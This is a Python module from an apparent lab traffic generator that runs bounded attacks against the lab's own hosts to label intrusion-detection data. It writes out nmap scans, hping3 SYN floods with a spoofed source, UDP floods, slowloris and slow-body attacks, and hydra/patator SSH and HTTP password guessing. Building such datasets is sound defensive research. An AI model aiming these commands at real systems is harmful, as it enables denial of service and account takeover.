"""The attacks: Debian's own tools, bounded in packets, rate and time, against the lab's own server.

An attack is a list of commands for the attacker's host and, beside it, which
flows those commands make. `wage` runs the commands and returns the window in
which they ran, so that a label never depends on what a packet looks like.
Not here: how a window becomes a row (`label`).
"""

import random
import time
from dataclasses import dataclass

from server import ACCOUNT, DOMAIN, PASSWORD
from topology import ATTACKER, CLIENTS, NOBODY_V4, SCRATCH, SERVER

# A window begins a little before the tool starts and ends a little after it ended.
MARGIN_BEFORE_S = 0.2
MARGIN_AFTER_S = 0.5

HYDRA_SSH_WORDS_MAX = 16


@dataclass(frozen=True)
class Scale:
    """How much of each attack. The floods send `flood_packets_count` at `flood_interval_us`."""

    ports_count: int
    scan_rate_max: int
    service_probes: bool
    flood_packets_count: int
    flood_interval_us: int
    slow_connections_count: int
    slow_s: int
    passwords_count: int
    limit_s: int


FULL = Scale(ports_count=30, scan_rate_max=100, service_probes=True,
             flood_packets_count=2000, flood_interval_us=1000,
             slow_connections_count=45, slow_s=15, passwords_count=60, limit_s=30)
SMALL = Scale(ports_count=24, scan_rate_max=100, service_probes=True,
              flood_packets_count=500, flood_interval_us=1000,
              slow_connections_count=30, slow_s=10, passwords_count=24, limit_s=30)
QUICK = Scale(ports_count=10, scan_rate_max=300, service_probes=False,
              flood_packets_count=150, flood_interval_us=1000,
              slow_connections_count=10, slow_s=1, passwords_count=4, limit_s=8)


@dataclass(frozen=True)
class Target:
    """Flows of an attack: `protocol` between two addresses at `port`; empty means any."""

    protocol: str
    address_a: str
    address_b: str
    port: str = ""


@dataclass(frozen=True)
class Attack:
    """`commands(scale)` makes exactly the flows that `targets` describe: one command
    after the other, or all `at_once`."""

    name: str
    commands: callable
    targets: tuple
    at_once: bool = False


@dataclass(frozen=True)
class Window:
    """Seconds since the epoch between which an attack's flows were opened, margins included."""

    attack: Attack
    start_s: float
    end_s: float


def wage(attack, scale):
    """Run one attack to its end and return its window."""
    commands = attack.commands(scale)
    start_s = time.time()
    running = []
    for argv in commands:
        running.append(ATTACKER.start(argv, scale.limit_s, f"{attack.name}.log"))
        if not attack.at_once:
            running[-1].wait()
    for program in running:
        program.wait()
    return Window(attack, start_s - MARGIN_BEFORE_S, time.time() + MARGIN_AFTER_S)


def portscan(scale):
    """nmap: SYN, connect, NULL, XMAS, FIN and UDP scans, IPv4 and IPv6, then service probes."""
    nmap = ["nmap", "-n", "-Pn", "-T4", "--max-retries", 1, "--max-rate", scale.scan_rate_max]
    ports = ["--top-ports", scale.ports_count]
    few = ["--top-ports", max(5, scale.ports_count // 3)]
    udp_ports = ["-p", "U:53,69,123,137,161,500,1900,5353"]
    commands = [
        [*nmap, "-sS", *ports, SERVER.v4],
        [*nmap, "-6", "-sS", *ports, SERVER.v6],
        [*nmap, "-sT", *ports, CLIENTS[0].v4],
        [*nmap, "-6", "-sT", *few, SERVER.v6],
        [*nmap, "-sN", *few, SERVER.v4],
        [*nmap, "-sX", *few, SERVER.v4],
        [*nmap, "-sF", *few, CLIENTS[1].v4],
        [*nmap, "-sU", *udp_ports, SERVER.v4],
        [*nmap, "-6", "-sU", *udp_ports, SERVER.v6],
    ]
    if scale.service_probes:
        commands.append([*nmap, "-sV", "--version-light", "-p", "22,53,80", SERVER.v4])
    return commands


def synflood(scale):
    """hping3: SYNs from the attacker's address, then as many from an address that is nobody's."""
    hping = ["hping3", "-q", "-n", "-S", "-p", 80, "-c", scale.flood_packets_count // 2,
             "-i", f"u{scale.flood_interval_us}"]
    return [[*hping, SERVER.v4], [*hping, "-a", NOBODY_V4, SERVER.v4]]


def udpflood(scale):
    """hping3 and, over IPv6, nping: datagrams to a closed port."""
    count = scale.flood_packets_count // 2
    return [
        ["hping3", "-q", "-n", "--udp", "-p", 9000, "-d", 400, "-c", count,
         "-i", f"u{scale.flood_interval_us}", SERVER.v4],
        # Without privileges nping sends through sockets, which fill in the checksum.
        ["nping", "-6", "-q", "--unprivileged", "--udp", "-p", 9000, "--data-length", 400,
         "-c", count, "--rate", 1_000_000 // scale.flood_interval_us, SERVER.v6],
    ]


def slowloris(scale):
    """slowhttptest: request headers that never end."""
    return _slow(scale, "-H", "-t", "GET", "-x", 24, path="/")


def slowbody(scale):
    """slowhttptest: a request body that comes a few bytes at a time."""
    return _slow(scale, "-B", "-t", "POST", "-s", 8192, "-x", 10, path="/upload/")


def ssh_guessing(scale):
    """patator guesses the account's ssh password once a connection, hydra several times."""
    commands = []
    # patator takes an IPv6 address only by a name.
    for version, address in (("v4", SERVER.v4), ("v6", f"six.{DOMAIN}")):
        commands.append(["patator", "ssh_login", f"host={address}", f"user={ACCOUNT}",
                         "password=FILE0", f"0={_words(scale.passwords_count, version)}",
                         "persistent=0", "-t", 3, "--rate-limit=0.2",
                         "-x", "ignore:mesg=Authentication failed."])
    few = min(HYDRA_SSH_WORDS_MAX, scale.passwords_count)
    return [*commands, *_hydra(few, "ssh://{}")]


def http_guessing(scale):
    """hydra guesses the basic-auth password of /private/."""
    return _hydra(scale.passwords_count, "http-get://{}/private/")


def _slow(scale, *mode, path):
    slow = ["slowhttptest", *mode, "-c", scale.slow_connections_count,
            "-r", scale.slow_connections_count, "-i", 1, "-l", scale.slow_s, "-p", 3]
    return [[*slow, "-u", f"http://{SERVER.v4}{path}"],
            [*slow, "-u", f"http://[{SERVER.v6}]{path}"]]


def _hydra(words_count, service):
    hydra = ["hydra", "-I", "-q", "-l", ACCOUNT, "-t", 4]
    return [[*hydra, "-P", _words(words_count, "v4"), service.format(SERVER.v4)],
            [*hydra, "-6", "-P", _words(words_count, "v6"), service.format(f"[{SERVER.v6}]")]]


def _words(count, version):
    """A word list; over IPv4 the guesser is lucky at the end."""
    rng = random.Random(f"{count}/{version}")
    words = [f"{rng.choice(('winter', 'dragon', 'letmein', 'monkey'))}{rng.randrange(10_000)}"
             for _ in range(count - 1)]
    words.append(PASSWORD if version == "v4" else "letmein")
    path = SCRATCH / f"words-{count}-{version}"
    path.write_text("\n".join(words) + "\n")
    return path


def _both_families(protocol, port):
    return (Target(protocol, ATTACKER.v4, SERVER.v4, port),
            Target(protocol, ATTACKER.v6, SERVER.v6, port))


ATTACKS = (
    # Whatever the attacker's host sends then is the scan, and so are the ICMP answers to it.
    Attack("portscan", portscan, (Target("", ATTACKER.v4, ""), Target("", ATTACKER.v6, ""))),
    Attack("dos-synflood", synflood, (Target("tcp", ATTACKER.v4, SERVER.v4, "80"),
                                      Target("tcp", NOBODY_V4, SERVER.v4, "80"))),
    Attack("dos-udpflood", udpflood, (*_both_families("udp", "9000"),
                                      *_both_families("icmp", ""))),
    Attack("dos-slowloris", slowloris, _both_families("tcp", "80"), at_once=True),
    Attack("dos-slowbody", slowbody, _both_families("tcp", "80"), at_once=True),
    Attack("ssh-bruteforce", ssh_guessing, _both_families("tcp", "22")),
    Attack("http-bruteforce", http_guessing, _both_families("tcp", "80")),
)
